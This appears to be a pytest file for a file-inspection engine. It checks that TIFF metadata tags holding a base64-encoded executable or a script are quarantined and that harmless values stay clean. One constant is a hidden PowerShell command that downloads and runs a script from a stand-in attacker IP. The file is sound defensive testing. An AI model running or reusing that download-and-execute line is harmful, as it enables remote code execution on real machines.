"""Every TIFF value stored outside its entry is judged (agent/inspect/tiff.py `_walk_ifd`).

TIFF 6.0 §2: an entry is tag, type, count and a value (or the offset of a value longer than
4 bytes, 8 in BigTIFF). Besides the text and private tags, any ASCII value (DocumentName
269, PageName 285, DateTime 306...) and any value of a public tag the walker does not know
is one a writer chooses; only the offsets the walk follows (IFD pointers, strip and tile
offsets and byte counts) are not values to judge. A raw program is found anywhere by the
whole-file search for program headers; an encoded program or a script line only in a
region a judge is given.
"""

from __future__ import annotations

import base64
import io

import pytest
from PIL import TiffImagePlugin

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import gradient

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
ASCII, UNDEFINED = 2, 7  # TIFF field types


def _tiff(tag: int, field_type: int, value: object) -> bytes:
    info = TiffImagePlugin.ImageFileDirectory_v2()
    info[tag] = value
    info.tagtype[tag] = field_type
    out = io.BytesIO()
    gradient((64, 48)).save(out, "TIFF", tiffinfo=info)
    return out.getvalue()


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("tag", [269, 285, 306, 337], ids=lambda tag: f"tag{tag}")
def test_a_payload_in_any_ascii_value_is_quarantined(tag: int, kind: str) -> None:
    report = inspect_bytes("scan.tif", _tiff(tag, ASCII, PAYLOADS[kind].decode()))
    assert report.verdict.value == "quarantine"
    assert "tiff.payload_in_metadata" in {f.code for f in report.findings}


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_an_unknown_public_tag_is_quarantined(kind: str) -> None:
    report = inspect_bytes("scan.tif", _tiff(1000, UNDEFINED, PAYLOADS[kind]))
    assert report.verdict.value == "quarantine"
    assert "tiff.payload_in_metadata" in {f.code for f in report.findings}


def test_harmless_ascii_and_unknown_values_stay_clean() -> None:
    assert inspect_bytes("scan.tif", _tiff(269, ASCII, "ward 3 / scanner 2")).verdict.value == (
        "clean"
    )
    assert inspect_bytes("scan.tif", _tiff(285, ASCII, "page 1 of 12")).verdict.value == "clean"
    assert inspect_bytes("scan.tif", _tiff(1000, UNDEFINED, bytes(range(256)))).verdict.value == (
        "clean"
    )


def test_a_colour_map_is_judged_and_a_real_one_stays_clean() -> None:
    """ColorMap (320): 3 x 2**BitsPerSample SHORTs, Pillow writes one for palette images."""
    out = io.BytesIO()
    gradient((64, 48)).convert("P").save(out, "TIFF")
    assert inspect_bytes("scan.tif", out.getvalue()).verdict.value == "clean"
